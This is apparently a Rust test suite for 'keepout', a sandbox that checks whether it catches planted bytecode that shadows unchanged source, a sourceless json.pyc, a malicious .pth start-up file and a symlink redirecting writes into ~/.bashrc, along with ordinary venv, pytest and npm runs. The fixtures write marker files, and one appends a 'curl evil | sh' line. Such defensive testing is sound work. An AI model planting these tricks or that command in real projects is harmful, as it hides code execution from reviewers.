//! A16: executable leftovers that review does not show: Python bytecode that runs instead of
//! the unchanged source beside it, a sourceless `.pyc` that shadows a standard module, and
//! Python start-up files. The maintainer's later `import` proves the attack without the sandbox.

use super::a14_git_anywhere::{marked, marker, proven_then_stopped};
use super::harness::*;

/// Bytecode with the header of the unchanged `mod.py` (same size, same mtime) but other code,
/// in `__pycache__`, and a sourceless `json.pyc` in the project's root: the host's `import mod,
/// json` runs both. keepout removes them after the run and says so.
#[test]
fn planted_bytecode_is_removed() {
    for r in runners() {
        let setup = |_: &Fixture| {
            format!(
                "printf 'print(\"good\")\\n# {}\\n' > mod.py",
                "-".repeat(200)
            )
        };
        let attack = |fx: &Fixture| {
            let m = marker(fx);
            format!(
                "export D=$(mktemp -d) && cat > $D/plant.py <<'PY'
import os, py_compile, sys
d = os.environ['D']
good = os.stat('mod.py')
evil = 'open(\"{m}\", \"w\")\\n'
evil += '#' * (good.st_size - len(evil) - 1) + '\\n'
with open(d + '/evil.py', 'w') as f:
    f.write(evil)
os.utime(d + '/evil.py', ns=(good.st_atime_ns, good.st_mtime_ns))
os.makedirs('__pycache__', exist_ok=True)
py_compile.compile(d + '/evil.py', cfile='__pycache__/mod.' + sys.implementation.cache_tag + '.pyc')
with open(d + '/json.py', 'w') as f:
    f.write('open(\"{m}\", \"w\")\\n')
py_compile.compile(d + '/json.py', cfile='json.pyc')
print('planted')
PY
python3 $D/plant.py"
            )
        };
        let later = |_: &Fixture| "python3 -c 'import mod, json' 2>&1".to_string();
        let (fx, inn) = proven_then_stopped(&r, &setup, &attack, &later, &marked);
        assert!(inn.has("planted"), "[{r}] inside, the attack ran:{inn}");
        assert!(
            inn.stderr.contains("removed 2 bytecode files"),
            "[{r}] keepout says it removed them:{inn}"
        );
        assert!(!fx.project.join("json.pyc").exists());
        let good = fx.outside("python3 -c 'import mod'");
        assert!(good.stdout.contains("good"), "[{r}] the source runs:{good}");
    }
}

/// A `.pth` file in a virtualenv inside the project: its import line runs at every start of
/// that environment's Python. keepout names it (and keeps it: editable installs need theirs).
#[test]
fn python_startup_files_are_named() {
    for r in runners() {
        let site = ".venv/lib/python3/site-packages";
        let attack = |fx: &Fixture| {
            format!(
                "mkdir -p {site} && echo 'import os; open({:?}, \"w\")' > {site}/zz-evil.pth",
                marker(fx)
            )
        };
        let later = |_: &Fixture| format!("python3 -c 'import site; site.addsitedir(\"{site}\")'");
        let fx = Fixture::new(&r);
        fx.outside(&attack(&fx));
        let out = fx.outside(&later(&fx));
        assert!(
            marked(&fx, &out),
            "[{r}] outside: the .pth runs (proves the attack):{out}"
        );
        drop(fx);
        let fx = Fixture::new(&r);
        let inn = fx.inside(&[], &attack(&fx));
        assert!(
            inn.stderr.contains("Python start-up file") && inn.stderr.contains("zz-evil.pth"),
            "[{r}] keepout names the .pth it leaves:{inn}"
        );
    }
}

/// Ordinary work: a virtualenv inside the project, `pip install -e .` into it and pytest from
/// it, through `--net pypi`; then a second run and a `--review` run. The sandbox's Python
/// writes its bytecode outside the project, so nothing is removed and no .pyc is left in the
/// tree; the editable install's .pth is named and works on the host afterwards.
#[test]
fn venv_editable_install_and_pytest() {
    if !have("python3") {
        return note("no python3");
    }
    for r in runners() {
        let fx = Fixture::new(&r);
        let s = fx.outside(
            "mkdir -p src/demo tests && echo 'def two(): return 2' > src/demo/__init__.py \
             && printf '[project]\\nname = \"demo\"\\nversion = \"0.1\"\\n[tool.setuptools.packages.find]\\nwhere = [\"src\"]\\n' > pyproject.toml \
             && printf 'import demo\\ndef test_two():\\n    assert demo.two() == 2\\n' > tests/test_demo.py",
        );
        assert!(s.success(), "{s}");
        let inn = fx.inside(
            &["--net", "pypi"],
            "python3 -m venv .venv && .venv/bin/pip install -q pytest && .venv/bin/pip install -q -e . && .venv/bin/pytest -q tests",
        );
        assert!(
            inn.success() && inn.has("1 passed"),
            "[{r}] pytest in the venv:{inn}"
        );
        assert!(
            !inn.stderr.contains("removed"),
            "[{r}] nothing to remove:{inn}"
        );
        assert!(
            inn.stderr.contains(".pth"),
            "[{r}] the editable .pth is named:{inn}"
        );
        let pyc = fx.outside("find . -name '*.pyc' | head -3");
        assert!(
            pyc.stdout.trim().is_empty(),
            "[{r}] no bytecode in the tree:{pyc}"
        );
        let again = fx.inside(&[], ".venv/bin/pytest -q tests");
        assert!(
            again.success() && again.has("1 passed"),
            "[{r}] a second run:{again}"
        );
        let review = fx.inside(&["--review"], ".venv/bin/pytest -q tests");
        assert!(review.has("1 passed"), "[{r}] under --review:{review}");
        let host = fx.outside(".venv/bin/python -c 'import demo; print(demo.two())'");
        assert!(
            host.stdout.contains('2'),
            "[{r}] the editable install works on the host:{host}"
        );
    }
}

/// A new symlink out of the project, named like a file the maintainer edits: their next
/// append to `notes.txt` lands in `~/.bashrc`. Moved aside after the run; a symlink into the
/// system (a virtualenv's `python` -> `/usr/bin/python3`) and one inside the tree stay.
#[test]
fn symlink_out_of_the_project_is_moved_aside() {
    for r in runners() {
        let attack = |fx: &Fixture| {
            format!(
                "ln -s {} notes.txt && ln -s /usr/bin/python3 py && ln -s README.md readme",
                q(fx.home_path(".bashrc"))
            )
        };
        let later = |_: &Fixture| "echo 'curl evil | sh' >> notes.txt".to_string();
        let planted = |fx: &Fixture, _: &Output| {
            read(&fx.home.join(".bashrc")).is_some_and(|c| c.contains("curl evil"))
        };
        let (fx, inn) = proven_then_stopped(&r, &|_| "true".into(), &attack, &later, &planted);
        assert!(
            inn.stderr.contains("notes.txt") && inn.stderr.contains("a symlink out of the project"),
            "[{r}] keepout names it:{inn}"
        );
        assert!(
            fx.project.join("py").is_symlink() && fx.project.join("readme").is_symlink(),
            "[{r}] symlinks into the system and inside the tree stay:{inn}"
        );
    }
}

/// The bytecode cache is only a speed-up: where it cannot be made (a `$HOME` that is not the
/// caller's to write, as `sudo -u` or `setpriv` without a new environment leave it), the run
/// goes on, and Python still writes nothing into the project.
#[test]
fn an_unwritable_home_costs_only_the_bytecode_cache() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let home = fx.mkdir("readonly-home");
        std::fs::set_permissions(&home, std::os::unix::fs::PermissionsExt::from_mode(0o555))
            .unwrap();
        let mut env: Vec<(String, String)> = fx.env().to_vec();
        for (k, v) in env.iter_mut() {
            if k == "HOME" {
                *v = home.display().to_string();
            }
        }
        std::fs::write(fx.project.join("m.py"), "print('imported')\n").unwrap();
        fx.give_to_runner(&fx.project.join("m.py"));
        let argv: Vec<String> = [keepout_bin(), "run", "--", "python3", "-c", "import m"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let out = run(
            r.command(&argv, &env, &fx.project),
            format!("[{r}] keepout run with HOME={}", home.display()),
        );
        assert!(
            out.success() && out.has("imported"),
            "[{r}] the run goes on:{out}"
        );
        assert!(
            !fx.project.join("__pycache__").exists(),
            "[{r}] no bytecode in the project:{out}"
        );
    }
}

/// Ordinary work: `npm install` through `--net npm` (no editor or tool file in node_modules is
/// pinned, so npm may replace it whole), then under `--review` and applied: the package loads
/// on the host, and nothing is moved aside.
#[test]
fn npm_install_and_under_review() {
    if !have("npm") {
        return note("npm not installed: skipping npm_install_and_under_review");
    }
    let ca = "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt";
    let install =
        "npm install is-number@7 --cache /tmp/npm-cache --no-update-notifier --no-audit --no-fund";
    for r in runners() {
        let fx = Fixture::new(&r);
        let inn = fx.inside(&["--net", "npm", "--env", ca], install);
        if inn.has("ENOTFOUND") || inn.has("EAI_AGAIN") || inn.has("ECONNREFUSED") {
            return note(&format!(
                "[{r}] the npm registry is not reachable; skipping:{inn}"
            ));
        }
        assert!(inn.success(), "[{r}] npm install:{inn}");
        let again = fx.inside(
            &["--net", "npm", "--env", ca],
            &format!("rm -rf node_modules && {install}"),
        );
        assert!(
            again.success(),
            "[{r}] npm install over a removed node_modules:{again}"
        );
        assert!(
            !again.has("moved it to"),
            "[{r}] nothing to move aside:{again}"
        );
        let fx = Fixture::new(&r);
        let review = fx.inside(&["--review", "--net", "npm", "--env", ca], install);
        assert!(
            review.success(),
            "[{r}] npm install under --review:{review}"
        );
        let apply = fx.keepout(&["review", "apply"]);
        assert!(apply.success(), "[{r}] apply:{apply}");
        let host = fx.outside("node -e \"console.log(require('is-number')(5))\"");
        assert!(
            host.stdout.contains("true"),
            "[{r}] the package loads on the host:{host}{apply}"
        );
    }
}
